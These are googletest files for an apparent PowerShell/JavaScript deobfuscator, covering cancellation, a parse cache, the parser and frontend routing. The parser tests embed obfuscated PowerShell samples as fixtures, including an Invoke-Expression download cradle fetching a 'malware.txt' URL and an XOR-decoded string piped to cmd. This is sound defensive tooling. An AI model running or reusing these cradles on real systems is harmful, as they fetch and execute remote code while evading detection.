  EXPECT_EQ(governed_report.degraded(), 0);
}

TEST(FailureTaxonomy, NamesAndSeverityOrder) {
  EXPECT_STREQ(ps::to_string(ps::FailureKind::None), "none");
  EXPECT_STREQ(ps::to_string(ps::FailureKind::Timeout), "timeout");
  EXPECT_STREQ(ps::to_string(ps::FailureKind::StepLimit), "step-limit");
  EXPECT_STREQ(ps::to_string(ps::FailureKind::MemoryBudget), "memory-budget");
  EXPECT_EQ(ps::worse_failure(ps::FailureKind::EvalError,
                              ps::FailureKind::Timeout),
            ps::FailureKind::Timeout);
  EXPECT_EQ(ps::worse_failure(ps::FailureKind::None,
                              ps::FailureKind::StepLimit),
            ps::FailureKind::StepLimit);
  EXPECT_GT(ps::failure_severity(ps::FailureKind::Internal),
            ps::failure_severity(ps::FailureKind::Cancelled));
}

// Every cancellation path — the batch watchdog, batch-wide external cancel,
// a mid-run governed cancel, and the serve daemon's client-disconnect /
// drain-grace kills (asserted in test_server) — funnels through ONE
// canonical detail string: ideobf::kCancelledDetail. Tools that group
// failures by message must see one bucket, not four spellings.
TEST(FailureTaxonomy, CancellationHasOneCanonicalDetail) {
  // The shared choke point: a cancelled budget checkpoint.
  auto token = ps::CancellationToken::make();
  ps::Budget budget(ps::Budget::Limits{100.0, 0, token});
  token.request_cancel();
  try {
    budget.checkpoint();
    FAIL() << "expected BudgetError";
  } catch (const ps::BudgetError& e) {
    EXPECT_EQ(e.kind, ps::FailureKind::Cancelled);
    EXPECT_EQ(std::string(e.what()), std::string(ideobf::kCancelledDetail));
  }

  // Mid-run governed cancel surfaces the same string in the report.
  Options opts;
  opts.limits.max_steps_per_piece = std::size_t{1} << 40;
  const InvokeDeobfuscator deobf(opts);
  Options::Limits governor;
  governor.deadline_seconds = 60.0;
  governor.cancel = ps::CancellationToken::make();
  std::thread canceller([cancel = governor.cancel]() {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    cancel.request_cancel();
  });
  DeobfuscationReport report;
  const std::string served = deobf.deobfuscate(kInfiniteLoop, report, governor);
  canceller.join();
  EXPECT_EQ(served, kInfiniteLoop);  // cancelled work is served as passthrough
  EXPECT_EQ(report.failure, ps::FailureKind::Cancelled);
  EXPECT_EQ(report.failure_detail, std::string(ideobf::kCancelledDetail));

  // Batch-wide cancellation (the watchdog propagates external cancels onto
  // each item's token) records the same string per item.
  const std::vector<std::string> scripts(4, kInfiniteLoop);
  Options options;
  options.threads = 2;
  options.limits.deadline_seconds = 30.0;
  options.limits.cancel = ps::CancellationToken::make();
  std::thread batch_canceller([cancel = options.limits.cancel]() {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    cancel.request_cancel();
  });
  BatchReport batch_report;
  deobfuscate_batch(deobf, scripts, batch_report, options);
  batch_canceller.join();
  ASSERT_EQ(batch_report.items.size(), scripts.size());
  for (const BatchItem& item : batch_report.items) {
    EXPECT_EQ(item.failure, ps::FailureKind::Cancelled);
    EXPECT_EQ(item.error, std::string(ideobf::kCancelledDetail));
  }
}

}  // namespace
