// Tests for the parse-once pipeline's ParseCache: hit/miss accounting,
// negative caching of invalid texts, LRU eviction, extent validity against
// caller-owned buffers, and concurrent hammering from many threads (the
// shard-lock and LRU-eviction race coverage demanded by the cache design).

#include <gtest/gtest.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "core/batch.h"
#include "core/deobfuscator.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"

namespace ideobf {
namespace {

TEST(ParseCache, HitReturnsSameAst) {
  ps::ParseCache cache;
  const std::string text = "Write-Host 'hello'";
  const auto first = cache.get(text);
  const auto second = cache.get(text);
  ASSERT_NE(first.ast, nullptr);
  EXPECT_TRUE(first.valid);
  EXPECT_EQ(first.ast.get(), second.ast.get());  // one shared parse
  const auto stats = cache.stats();
  EXPECT_EQ(stats.misses, 1u);
  EXPECT_EQ(stats.hits, 1u);
}

TEST(ParseCache, InvalidTextIsNegativeCached) {
  ps::ParseCache cache;
  const std::string bad = "if (broken {";
  EXPECT_FALSE(cache.get(bad).valid);
  EXPECT_EQ(cache.get(bad).ast, nullptr);
  const auto stats = cache.stats();
  EXPECT_EQ(stats.misses, 1u);  // the second lookup did not re-parse
  EXPECT_EQ(stats.hits, 1u);
}

TEST(ParseCache, MissAvoidsReparseAcrossUses) {
  ps::ParseCache cache;
  const std::string text = "$a = 1; Write-Host $a";
  const auto before = ps::parse_call_count();
  cache.get(text);
  cache.is_valid(text);
  cache.get(text);
  EXPECT_EQ(ps::parse_call_count() - before, 1u);
}

TEST(ParseCache, LruEvictionKeepsSizeBounded) {
  ps::ParseCache cache(/*max_entries=*/16);  // one entry per shard
  for (int i = 0; i < 200; ++i) {
    cache.get("Write-Host " + std::to_string(i));
  }
  EXPECT_LE(cache.size(), 16u);
  EXPECT_GT(cache.stats().evictions, 0u);
}

TEST(ParseCache, OversizedTextBypassesStorage) {
  ps::ParseCache cache(/*max_entries=*/512, /*max_text_bytes=*/32);
  const std::string big = "Write-Host '" + std::string(100, 'a') + "'";
  const auto r = cache.get(big);
  EXPECT_TRUE(r.valid);
  EXPECT_EQ(cache.size(), 0u);
  EXPECT_EQ(cache.stats().bypasses, 1u);
}

TEST(ParseCache, ExtentsIndexIntoCallerBuffer) {
  ps::ParseCache cache;
  const std::string mine = "Write-Host 'payload'";
  const auto r = cache.get(mine);
  ASSERT_NE(r.ast, nullptr);
  // Extents are offsets: equally valid against the caller's equal buffer.
  EXPECT_EQ(r.ast->text_in(mine), mine);
  EXPECT_EQ(*r.source, mine);
}

TEST(ParseCache, ConcurrentHammeringWithEvictions) {
  // A deliberately tiny cache forces constant eviction while 8 threads
  // look up an overlapping working set — races in shard locking or LRU
  // maintenance show up as crashes, wrong verdicts, or TSan reports.
  ps::ParseCache cache(/*max_entries=*/16);
  constexpr int kThreads = 8;
  constexpr int kIters = 300;
  std::vector<std::string> valid_pool, invalid_pool;
  for (int i = 0; i < 24; ++i) {
    valid_pool.push_back("Write-Host " + std::to_string(i));
    invalid_pool.push_back("while (" + std::to_string(i));
  }

  std::vector<std::thread> pool;
  std::atomic<int> wrong{0};
  for (int t = 0; t < kThreads; ++t) {
    pool.emplace_back([&, t]() {
      for (int i = 0; i < kIters; ++i) {
        const auto& good = valid_pool[(t + i) % valid_pool.size()];
        const auto r = cache.get(good);
        if (!r.valid || r.ast == nullptr || *r.source != good) ++wrong;
        const auto& bad = invalid_pool[(t * 7 + i) % invalid_pool.size()];
        if (cache.get(bad).valid) ++wrong;
      }
    });
  }
  for (auto& th : pool) th.join();
  EXPECT_EQ(wrong.load(), 0);
  EXPECT_LE(cache.size(), 16u);
  const auto stats = cache.stats();
  EXPECT_EQ(stats.hits + stats.misses,
            static_cast<std::uint64_t>(kThreads) * kIters * 2);
}

TEST(ParseCache, SharedAcrossBatchThreads) {
  // One shared cache under deobfuscate_batch with 8 threads over heavily
  // duplicated inputs: results must match the serial uncached run exactly.
  std::vector<std::string> scripts;
  for (int i = 0; i < 32; ++i) {
    scripts.push_back("iex 'Write-Host dup'");
    scripts.push_back("$x = 'h' + 'i'; Write-Host $x");
    scripts.push_back("broken ( input " + std::to_string(i % 4));
  }

  Options uncached;
  uncached.parse_cache = false;
  const auto expected =
      deobfuscate_batch(InvokeDeobfuscator(uncached), scripts, 1);

  Options shared;
  shared.shared_parse_cache = std::make_shared<ps::ParseCache>(64);
  const InvokeDeobfuscator deobf(shared);
  BatchReport report;
  const auto got = deobfuscate_batch(deobf, scripts, report, 8);

  ASSERT_EQ(got.size(), expected.size());
  for (std::size_t i = 0; i < got.size(); ++i) {
    EXPECT_EQ(got[i], expected[i]) << "sample " << i;
    EXPECT_TRUE(report.items[i].ok);
  }
  // Duplicated inputs must actually share parses.
  EXPECT_GT(shared.shared_parse_cache->stats().hits, 0u);
}

}  // namespace
}  // namespace ideobf
