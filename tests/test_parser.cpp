// Unit tests for the PowerShell AST parser.

#include <gtest/gtest.h>

#include "psast/parser.h"

namespace ps {
namespace {

const Ast* first_statement(const ScriptBlockAst& sb) {
  EXPECT_FALSE(sb.named_blocks.empty());
  const auto& stmts = sb.named_blocks.front()->statements;
  EXPECT_FALSE(stmts.empty());
  return stmts.front().get();
}

TEST(Parser, SimpleCommandPipeline) {
  auto sb = parse("Write-Host hello");
  const Ast* st = first_statement(*sb);
  ASSERT_EQ(st->kind(), NodeKind::Pipeline);
  const auto* pipe = static_cast<const PipelineAst*>(st);
  ASSERT_EQ(pipe->elements.size(), 1u);
  ASSERT_EQ(pipe->elements[0]->kind(), NodeKind::Command);
  const auto* cmd = static_cast<const CommandAst*>(pipe->elements[0].get());
  EXPECT_EQ(cmd->constant_name(), "Write-Host");
  ASSERT_EQ(cmd->elements.size(), 2u);
}

TEST(Parser, PipelineWithTwoStages) {
  auto sb = parse("'abc' | iex");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  ASSERT_EQ(pipe->elements.size(), 2u);
  EXPECT_EQ(pipe->elements[0]->kind(), NodeKind::CommandExpression);
  EXPECT_EQ(pipe->elements[1]->kind(), NodeKind::Command);
}

TEST(Parser, Assignment) {
  auto sb = parse("$a = 'x' + 'y'");
  const Ast* st = first_statement(*sb);
  ASSERT_EQ(st->kind(), NodeKind::AssignmentStatement);
  const auto* assign = static_cast<const AssignmentStatementAst*>(st);
  EXPECT_EQ(assign->left->kind(), NodeKind::VariableExpression);
  EXPECT_EQ(assign->op, "=");
  ASSERT_EQ(assign->right->kind(), NodeKind::Pipeline);
}

TEST(Parser, BinaryConcat) {
  auto sb = parse("'he' + 'llo'");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::BinaryExpression);
  const auto* bin = static_cast<const BinaryExpressionAst*>(ce->expression.get());
  EXPECT_EQ(bin->op, "+");
  EXPECT_EQ(bin->left->kind(), NodeKind::StringConstantExpression);
}

TEST(Parser, FormatOperatorWithArrayRhs) {
  auto sb = parse("\"{2}{0}{1}\" -f 'b','c','a'");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::BinaryExpression);
  const auto* bin = static_cast<const BinaryExpressionAst*>(ce->expression.get());
  EXPECT_EQ(bin->op, "-f");
  ASSERT_EQ(bin->right->kind(), NodeKind::ArrayLiteral);
  const auto* arr = static_cast<const ArrayLiteralAst*>(bin->right.get());
  EXPECT_EQ(arr->elements.size(), 3u);
}

TEST(Parser, CastChain) {
  auto sb = parse("[STRiNg][CHar]39");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::ConvertExpression);
  const auto* outer = static_cast<const ConvertExpressionAst*>(ce->expression.get());
  EXPECT_EQ(outer->type_name, "STRiNg");
  ASSERT_EQ(outer->child->kind(), NodeKind::ConvertExpression);
}

TEST(Parser, StaticInvokeMember) {
  auto sb = parse("[Convert]::FromBase64String('QQ==')");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::InvokeMemberExpression);
  const auto* inv =
      static_cast<const InvokeMemberExpressionAst*>(ce->expression.get());
  EXPECT_TRUE(inv->is_static);
  EXPECT_EQ(inv->constant_member(), "frombase64string");
  ASSERT_EQ(inv->arguments.size(), 1u);
}

TEST(Parser, InstanceInvokeMemberChain) {
  auto sb = parse("(New-Object Net.WebClient).DownloadString('u').Trim()");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::InvokeMemberExpression);
  const auto* trim =
      static_cast<const InvokeMemberExpressionAst*>(ce->expression.get());
  EXPECT_EQ(trim->constant_member(), "trim");
  ASSERT_EQ(trim->target->kind(), NodeKind::InvokeMemberExpression);
}

TEST(Parser, IndexExpression) {
  auto sb = parse("$env:ComSpec[4,24,25]");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::IndexExpression);
  const auto* idx = static_cast<const IndexExpressionAst*>(ce->expression.get());
  EXPECT_EQ(idx->target->kind(), NodeKind::VariableExpression);
  EXPECT_EQ(idx->index->kind(), NodeKind::ArrayLiteral);
}

TEST(Parser, NegativeRangeIndex) {
  auto sb = parse("$x[-1..-9]");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::IndexExpression);
  const auto* idx = static_cast<const IndexExpressionAst*>(ce->expression.get());
  EXPECT_EQ(idx->index->kind(), NodeKind::BinaryExpression);
}

TEST(Parser, SubExpression) {
  auto sb = parse("$( Write-Host hi; 'val' )");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::SubExpression);
  const auto* sub = static_cast<const SubExpressionAst*>(ce->expression.get());
  EXPECT_EQ(sub->statements.size(), 2u);
}

TEST(Parser, IfElse) {
  auto sb = parse("if ($a) { 1 } elseif ($b) { 2 } else { 3 }");
  const Ast* st = first_statement(*sb);
  ASSERT_EQ(st->kind(), NodeKind::IfStatement);
  const auto* ifst = static_cast<const IfStatementAst*>(st);
  EXPECT_EQ(ifst->clauses.size(), 2u);
  EXPECT_NE(ifst->else_body, nullptr);
}

TEST(Parser, WhileLoop) {
  auto sb = parse("while ($true) { break }");
  EXPECT_EQ(first_statement(*sb)->kind(), NodeKind::WhileStatement);
}

TEST(Parser, ForLoop) {
  auto sb = parse("for ($i = 0; $i -lt 10; $i++) { $i }");
  const Ast* st = first_statement(*sb);
  ASSERT_EQ(st->kind(), NodeKind::ForStatement);
  const auto* f = static_cast<const ForStatementAst*>(st);
  EXPECT_NE(f->initializer, nullptr);
  EXPECT_NE(f->condition, nullptr);
  EXPECT_NE(f->iterator, nullptr);
}

TEST(Parser, ForEachLoop) {
  auto sb = parse("foreach ($x in 1..5) { $x }");
  const Ast* st = first_statement(*sb);
  ASSERT_EQ(st->kind(), NodeKind::ForEachStatement);
}

TEST(Parser, FunctionDefinition) {
  auto sb = parse("function Get-Foo($a, $b) { return $a }");
  const Ast* st = first_statement(*sb);
  ASSERT_EQ(st->kind(), NodeKind::FunctionDefinition);
  const auto* fn = static_cast<const FunctionDefinitionAst*>(st);
  EXPECT_EQ(fn->name, "Get-Foo");
  EXPECT_EQ(fn->parameters.size(), 2u);
}

TEST(Parser, TryCatchFinally) {
  auto sb = parse("try { 1 } catch { 2 } finally { 3 }");
  const Ast* st = first_statement(*sb);
  ASSERT_EQ(st->kind(), NodeKind::TryStatement);
  const auto* t = static_cast<const TryStatementAst*>(st);
  EXPECT_EQ(t->catch_bodies.size(), 1u);
  EXPECT_NE(t->finally_body, nullptr);
}

TEST(Parser, Hashtable) {
  auto sb = parse("@{ a = 1; b = 'x' }");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::HashtableExpression);
  const auto* ht =
      static_cast<const HashtableExpressionAst*>(ce->expression.get());
  EXPECT_EQ(ht->entries.size(), 2u);
}

TEST(Parser, ScriptBlockExpression) {
  auto sb = parse("$f = { Write-Host hi }");
  const auto* assign =
      static_cast<const AssignmentStatementAst*>(first_statement(*sb));
  const auto* rhs = static_cast<const PipelineAst*>(assign->right.get());
  const auto* ce = static_cast<const CommandExpressionAst*>(rhs->elements[0].get());
  EXPECT_EQ(ce->expression->kind(), NodeKind::ScriptBlockExpression);
}

TEST(Parser, ExtentsMatchSource) {
  const std::string src = "$a = ('he' + 'llo')";
  auto sb = parse(src);
  sb->post_order([&](const Ast& node) {
    EXPECT_LE(node.start(), node.end());
    EXPECT_LE(node.end(), src.size());
  });
  const auto* assign =
      static_cast<const AssignmentStatementAst*>(first_statement(*sb));
  EXPECT_EQ(assign->left->text_in(src), "$a");
  EXPECT_EQ(assign->right->text_in(src), "('he' + 'llo')");
}

TEST(Parser, ChildrenAreOrderedAndNested) {
  const std::string src = "'a'+'b'+'c'";
  auto sb = parse(src);
  sb->post_order([&](const Ast& node) {
    std::size_t prev = node.start();
    for (const Ast* child : node.children()) {
      EXPECT_GE(child->start(), prev);
      EXPECT_LE(child->end(), node.end());
      prev = child->start();
    }
  });
}

TEST(Parser, ParentLinks) {
  auto sb = parse("'a'+'b'");
  sb->post_order([&](const Ast& node) {
    for (const Ast* child : node.children()) {
      EXPECT_EQ(child->parent(), &node);
    }
  });
  EXPECT_EQ(sb->parent(), nullptr);
}

TEST(Parser, MultiStatementScript) {
  auto sb = parse("$a = 1\n$b = 2; $c = 3\nWrite-Host $a$b$c");
  EXPECT_EQ(sb->named_blocks.front()->statements.size(), 4u);
}

TEST(Parser, DotInvocation) {
  auto sb = parse(". ('ie'+'x') 'write-host hi'");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* cmd = static_cast<const CommandAst*>(pipe->elements[0].get());
  EXPECT_EQ(cmd->invocation, CommandAst::Invocation::Dot);
  EXPECT_EQ(cmd->elements[0]->kind(), NodeKind::ParenExpression);
}

TEST(Parser, AmpersandInvocation) {
  auto sb = parse("& ($env:ComSpec[4,24,25] -join '')");
  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
  const auto* cmd = static_cast<const CommandAst*>(pipe->elements[0].get());
  EXPECT_EQ(cmd->invocation, CommandAst::Invocation::Ampersand);
}

TEST(Parser, Listing3Parses) {
  const char* src =
      "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}"
      "{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
      "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','r ing','tes',"
      "'ient).dow')).RepLACe('jYU',[STRiNg][CHar]39))";
  // One extra ')' in the transcribed listing; use the balanced form.
  const char* balanced =
      "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}"
      "{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
      "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','r ing','tes',"
      "'ient).dow').RepLACe('jYU',[STRiNg][CHar]39))";
  (void)src;
  EXPECT_TRUE(is_valid_syntax(balanced));
}

TEST(Parser, Listing4Parses) {
  const char* src =
      "( '99S5i46}60~@.d60-42~57-46@101@63d51i63}108}98' -SPLIT '~' -SPLit "
      "'d' -SPliT '}' -SPLiT 'i' -SpliT ',' -SPLit 'J' | fOrEAch-ObJECt { "
      "[cHAR]($_ -BxoR '0x4B') }) -jOiN '' | & ($Env:coMSpEC[4,24,25] -JOiN "
      "'')";
  EXPECT_TRUE(is_valid_syntax(src));
}

TEST(Parser, TryParseReturnsNullOnGarbage) {
  std::string err;
  EXPECT_EQ(try_parse("if (", &err), nullptr);
  EXPECT_FALSE(err.empty());
  EXPECT_EQ(try_parse("'unterminated", nullptr), nullptr);
}

TEST(Parser, SwitchStatement) {
  auto sb = parse("switch ($x) { 'a' { 1 } default { 2 } }");
  EXPECT_EQ(first_statement(*sb)->kind(), NodeKind::SwitchStatement);
}

TEST(Parser, ParamBlock) {
  auto sb = parse("param($url, $retries = 3)\nWrite-Host $url");
  ASSERT_NE(sb->param_block, nullptr);
  EXPECT_EQ(sb->param_block->parameters.size(), 2u);
}

TEST(Parser, RecoverableKindPredicate) {
  EXPECT_TRUE(is_recoverable_kind(NodeKind::Pipeline));
  EXPECT_TRUE(is_recoverable_kind(NodeKind::BinaryExpression));
  EXPECT_TRUE(is_recoverable_kind(NodeKind::UnaryExpression));
  EXPECT_TRUE(is_recoverable_kind(NodeKind::ConvertExpression));
  EXPECT_TRUE(is_recoverable_kind(NodeKind::InvokeMemberExpression));
  EXPECT_TRUE(is_recoverable_kind(NodeKind::SubExpression));
  EXPECT_FALSE(is_recoverable_kind(NodeKind::Command));
  EXPECT_FALSE(is_recoverable_kind(NodeKind::VariableExpression));
}

TEST(Parser, ScopeKindPredicate) {
  EXPECT_TRUE(is_scope_kind(NodeKind::NamedBlock));
  EXPECT_TRUE(is_scope_kind(NodeKind::IfStatement));
  EXPECT_TRUE(is_scope_kind(NodeKind::WhileStatement));
  EXPECT_TRUE(is_scope_kind(NodeKind::ForStatement));
  EXPECT_TRUE(is_scope_kind(NodeKind::ForEachStatement));
  EXPECT_TRUE(is_scope_kind(NodeKind::StatementBlock));
  EXPECT_FALSE(is_scope_kind(NodeKind::Pipeline));
}

}  // namespace
}  // namespace ps
