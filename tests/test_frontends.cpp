// Tests for the language-frontend boundary: the registry and its request
// validation, "auto" sniffing, PowerShell parity through the new dispatch
// path, engine-level routing of Request::language (including the unknown-
// language passthrough contract), the per-language memo salt (with the
// collision regression that motivated it), and the per-language dispatch
// counters.

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "core/deobfuscator.h"
#include "core/recovery.h"
#include "frontends/frontend.h"
#include "frontends/registry.h"
#include "ideobf/api.h"
#include "telemetry/metrics.h"
#include "telemetry/telemetry.h"

namespace {

using namespace ideobf;

const char* kJsSample =
    "var a = 'ev' + 'al';\n"
    "var b = String.fromCharCode(104, 105);\n"
    "console.log(a === b);\n";

const char* kPsSample =
    "$a = \"In\" + \"voke\"\n"
    "Write-Output $a\n";

// ---------------------------------------------------------------- registry

TEST(FrontendRegistry2, BuiltinsAreRegisteredDefaultFirst) {
  FrontendRegistry& reg = FrontendRegistry::instance();
  EXPECT_TRUE(reg.has("powershell"));
  EXPECT_TRUE(reg.has("javascript"));
  EXPECT_FALSE(reg.has("klingon"));
  EXPECT_FALSE(reg.has("auto"));  // a pseudo-language, not a front-end

  const std::vector<std::string> names = reg.names();
  ASSERT_GE(names.size(), 2u);
  EXPECT_EQ(names[0], kDefaultLanguage);  // registration order, default first
  EXPECT_NE(std::find(names.begin(), names.end(), "javascript"), names.end());
}

TEST(FrontendRegistry2, RequestLanguageValidation) {
  EXPECT_TRUE(valid_request_language(""));      // default
  EXPECT_TRUE(valid_request_language("auto"));  // sniffed
  EXPECT_TRUE(valid_request_language("powershell"));
  EXPECT_TRUE(valid_request_language("javascript"));
  EXPECT_FALSE(valid_request_language("klingon"));
  EXPECT_FALSE(valid_request_language("PowerShell"));  // case-sensitive
}

TEST(FrontendRegistry2, SniffLanguageSeparatesTheBuiltins) {
  EXPECT_EQ(sniff_language(kPsSample), "powershell");
  EXPECT_EQ(sniff_language(kJsSample), "javascript");
  // Nothing to go on: ties resolve to the default language.
  EXPECT_EQ(sniff_language(""), kDefaultLanguage);
}

TEST(FrontendRegistry2, CreateAllInstantiatesEveryFrontend) {
  const Options opts;
  const auto frontends =
      FrontendRegistry::instance().create_all(opts, nullptr);
  ASSERT_GE(frontends.size(), 2u);
  EXPECT_EQ(frontends[0]->name(), kDefaultLanguage);
  for (const auto& fe : frontends) {
    EXPECT_TRUE(FrontendRegistry::instance().has(fe->name()));
  }
}

// ---------------------------------------------------------------- parity

TEST(FrontendParity, DefaultDispatchMatchesExplicitPowershell) {
  const InvokeDeobfuscator deobf;
  const std::string obf =
      "$x = \"do\" + \"wn\" + \"load\"\n"
      "& (\"Inv\" + \"oke-Expression\") $x\n";
  DeobfuscationReport r1;
  DeobfuscationReport r2;
  DeobfuscationReport r3;
  const std::string via_default = deobf.deobfuscate(obf, r1);
  const std::string via_empty =
      deobf.deobfuscate(obf, r2, deobf.options().limits, nullptr, "");
  const std::string via_named =
      deobf.deobfuscate(obf, r3, deobf.options().limits, nullptr,
                        "powershell");
  EXPECT_EQ(via_default, via_empty);
  EXPECT_EQ(via_default, via_named);
  EXPECT_EQ(r1.degradation_rung, r3.degradation_rung);
}

// ---------------------------------------------------------------- routing

TEST(FrontendRouting, ResolveLanguageNormalizesDefaultAndAuto) {
  const InvokeDeobfuscator deobf;
  EXPECT_EQ(deobf.resolve_language("", kJsSample), "powershell");
  EXPECT_EQ(deobf.resolve_language("javascript", kPsSample), "javascript");
  EXPECT_EQ(deobf.resolve_language("auto", kJsSample), "javascript");
  EXPECT_EQ(deobf.resolve_language("auto", kPsSample), "powershell");
  // Unknown names pass through verbatim; the lookup failure is the
  // caller's signal.
  EXPECT_EQ(deobf.resolve_language("klingon", kJsSample), "klingon");
  EXPECT_EQ(deobf.frontend("klingon"), nullptr);
}

TEST(FrontendRouting, JavascriptRequestsFoldUnderTheJsFrontend) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  const std::string out =
      deobf.deobfuscate("eval('con' + 'sole.log(\"hi\")');", report,
                        deobf.options().limits, nullptr, "javascript");
  EXPECT_EQ(out, "console.log(\"hi\");");
  EXPECT_EQ(report.multilayer.layers_unwrapped, 1);
  EXPECT_EQ(report.degradation_rung, 0);
}

TEST(FrontendRouting, UnknownLanguageIsClassifiedPassthrough) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  const std::string src = "whatever source text";
  const std::string out = deobf.deobfuscate(
      src, report, deobf.options().limits, nullptr, "klingon");
  EXPECT_EQ(out, src);  // totality: misrouted input comes back unchanged
  EXPECT_EQ(report.failure, ps::FailureKind::Internal);
  EXPECT_EQ(report.degradation_rung, 3);
  EXPECT_NE(report.failure_detail.find("klingon"), std::string::npos);
}

TEST(FrontendRouting, EngineApiThreadsLanguageAndEchoesResolution) {
  Engine engine{Options{}};
  Request request;
  request.source = "var u = atob('aGk=');\nf(u);\n";
  request.language = "javascript";
  const Response response = engine.handle(request);
  EXPECT_TRUE(response.ok);
  EXPECT_EQ(response.language, "javascript");
  EXPECT_NE(response.result.find("'hi'"), std::string::npos);

  Request sniffed;
  sniffed.source = request.source;
  sniffed.language = "auto";
  const Response auto_response = engine.handle(sniffed);
  EXPECT_EQ(auto_response.language, "javascript");
  EXPECT_EQ(auto_response.result, response.result);

  Request defaulted;
  defaulted.source = kPsSample;
  const Response ps_response = engine.handle(defaulted);
  EXPECT_EQ(ps_response.language, "powershell");
}

TEST(FrontendRouting, BatchRoutesPerItemLanguages) {
  Engine engine{Options{}};
  std::vector<Request> requests(3);
  requests[0].source = kPsSample;
  requests[1].source = "var x = 'pay' + 'load';\ng(x);\n";
  requests[1].language = "javascript";
  requests[2].source = "irrelevant";
  requests[2].language = "klingon";
  const std::vector<Response> responses = engine.handle_batch(requests);
  ASSERT_EQ(responses.size(), 3u);
  EXPECT_EQ(responses[0].language, "powershell");
  EXPECT_EQ(responses[1].language, "javascript");
  EXPECT_NE(responses[1].result.find("'payload'"), std::string::npos);
  // The unknown-language item is a classified passthrough, and its language
  // echoes verbatim so the client can see what failed to route.
  EXPECT_EQ(responses[2].language, "klingon");
  EXPECT_FALSE(responses[2].ok);
  EXPECT_EQ(responses[2].result, requests[2].source);
}

// ---------------------------------------------------------------- memo salt

TEST(FrontendMemoSalt, EqualSaltsCollideDistinctSaltsDoNot) {
  // The regression that motivated the per-language salt: two front-ends
  // with identical recovery options produce the SAME memo context
  // fingerprint, so identical piece bytes under different languages would
  // alias to one memoized literal on the shared engine-global memo.
  RecoveryOptions ps_opts;
  RecoveryOptions js_opts;
  ASSERT_EQ(ps_opts.language_salt, js_opts.language_salt);
  EXPECT_EQ(pure_memo_context(ps_opts), pure_memo_context(js_opts));

  // The fix: each front-end mixes its own salt into the fingerprint.
  js_opts.language_salt = 0x6a61766173637269ull;  // the JS front-end's salt
  EXPECT_NE(pure_memo_context(ps_opts), pure_memo_context(js_opts));
}

TEST(FrontendMemoSalt, BuiltinFrontendsCarryDistinctSalts) {
  const InvokeDeobfuscator deobf;
  const LanguageFrontend* ps = deobf.frontend("powershell");
  const LanguageFrontend* js = deobf.frontend("javascript");
  ASSERT_NE(ps, nullptr);
  ASSERT_NE(js, nullptr);
  // 0 is reserved for PowerShell: its memo fingerprints predate the
  // front-end boundary and must stay byte-identical across the refactor.
  EXPECT_EQ(ps->memo_language_salt(), 0u);
  EXPECT_NE(js->memo_language_salt(), 0u);
  EXPECT_NE(ps->memo_language_salt(), js->memo_language_salt());
}

// ---------------------------------------------------------------- counters

TEST(FrontendCounters, PerLanguageRequestAndFailureLabels) {
  telemetry::Telemetry::metrics().reset();
  telemetry::Telemetry::enable();

  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  (void)deobf.deobfuscate("Write-Output 1", report, deobf.options().limits,
                          nullptr, "");
  (void)deobf.deobfuscate("f(1);", report, deobf.options().limits, nullptr,
                          "javascript");
  (void)deobf.deobfuscate("x", report, deobf.options().limits, nullptr,
                          "klingon");

  auto& reg = telemetry::registry();
  EXPECT_EQ(reg.counter("ideobf_frontend_requests_total",
                        "language=\"powershell\"")
                .value(),
            1u);
  EXPECT_EQ(reg.counter("ideobf_frontend_requests_total",
                        "language=\"javascript\"")
                .value(),
            1u);
  EXPECT_EQ(
      reg.counter("ideobf_frontend_requests_total", "language=\"unknown\"")
          .value(),
      1u);
  EXPECT_EQ(
      reg.counter("ideobf_frontend_failures_total", "language=\"unknown\"")
          .value(),
      1u);
  EXPECT_EQ(
      reg.counter("ideobf_frontend_failures_total", "language=\"javascript\"")
          .value(),
      0u);

